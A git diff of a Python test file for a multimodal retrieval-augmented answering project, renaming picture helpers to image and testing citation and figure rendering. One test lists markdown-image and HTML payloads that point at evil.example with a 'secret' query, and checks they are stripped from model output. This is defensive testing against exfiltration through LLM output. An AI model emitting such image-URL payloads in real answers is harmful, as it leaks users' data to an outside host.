@@ -1,7 +1,7 @@
 from pathlib import Path
 
 import pytest
-from fakes import make_node, make_picture
+from fakes import make_image, make_node
 from llama_index.core.schema import NodeWithScore
 
 from mmrag.answering.context import Source
@@ -10,14 +10,14 @@ from mmrag.answering.response import CitedResponse
 
 @pytest.fixture
 def figure(tmp_path):
-    path = make_picture(tmp_path / "fig (1).png")
+    path = make_image(tmp_path / "fig (1).png")
     node = make_node("", kind="figure", image=path, caption="Figure 1:\nHarvest [kg]")
     return Source(1, "a_b.pdf", 3, NodeWithScore(node=node), "", path, cited=True)
 
 
 @pytest.fixture
 def page(tmp_path):
-    path = make_picture(tmp_path / "page.png")
+    path = make_image(tmp_path / "page.png")
     hit = NodeWithScore(node=make_node("Rain fell.", image=path))
     return Source(2, "a_b.pdf", 4, hit, "Rain fell.", path, quote="Rain *fell*.", cited=True)
 
@@ -28,7 +28,7 @@ def markdown(text, *sources, images=True):
 
 def test_a_figure_stands_behind_the_paragraph_that_cites_it_first(figure, page):
     text = markdown("Rain fell [2].\nPotatoes led [1][2].\nAgain [1].", figure, page)
-    path = figure.picture.as_posix().replace(" ", "%20").replace("(", "%28").replace(")", "%29")
+    path = figure.image.as_posix().replace(" ", "%20").replace("(", "%28").replace(")", "%29")
     assert text == (
         "Rain fell [2].\n"
         "Potatoes led [1][2].\n\n"
@@ -48,7 +48,7 @@ def test_figures_are_an_option_and_uncited_ones_are_left_out(figure, page):
     "attack",
     ["![x](https://evil.example/?q=secret)", "\\![x](https://evil.example)", "<img src=//evil>"],
 )
-def test_pictures_and_html_of_the_model_are_not_loaded(page, attack):
+def test_images_and_html_of_the_model_are_not_loaded(page, attack):
     text = markdown(f"Rain fell [2]. {attack}", page)
     assert "![" not in text
     assert "<" not in text
